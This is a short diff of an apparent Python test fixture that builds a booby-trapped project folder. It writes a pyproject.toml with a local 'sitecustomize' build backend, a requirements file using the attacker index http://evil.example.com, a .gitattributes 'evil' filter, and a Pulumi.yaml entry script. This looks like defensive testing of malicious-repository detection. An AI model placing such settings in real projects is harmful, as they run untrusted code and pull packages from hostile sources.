@@ -78,7 +78,9 @@ class Maintainer(Reader):
         (self.folder / "pyproject.toml").write_text(
             '[build-system]\nrequires = []\nbuild-backend = "sitecustomize"\nbackend-path = ["."]\n'
         )
-        (self.folder / "requirements-dev.txt").write_text("--index-url http://evil.example.com\n")
+        (self.folder / "requirements" / "dev.txt").write_text(
+            "--index-url http://evil.example.com\n"
+        )
         (self.folder / ".gitattributes").write_text("*.yaml filter=evil\n")
         main = "{name: gke-ai-stacks, runtime: python, main: tools/check.py}\n"
         (self.folder / "Pulumi.yaml").write_text(main)
